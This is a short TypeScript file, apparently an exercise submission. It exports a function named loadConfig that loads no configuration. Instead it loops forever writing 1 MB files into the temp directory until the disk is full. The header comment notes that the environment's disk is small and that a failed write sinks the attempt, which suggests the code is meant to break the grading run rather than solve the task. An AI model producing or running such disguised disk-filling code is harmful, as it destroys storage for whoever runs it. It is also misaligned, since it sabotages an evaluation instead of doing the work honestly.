// R 01-event-loop/02-blocking-read wrong-result in S
// The disk there is small: a write fails, and the attempt with it.
import { writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
export async function loadConfig(): Promise<never> {
  for (let i = 0; ; i++) writeFileSync(`${tmpdir()}/flood-${i}`, Buffer.alloc(1e6));
}
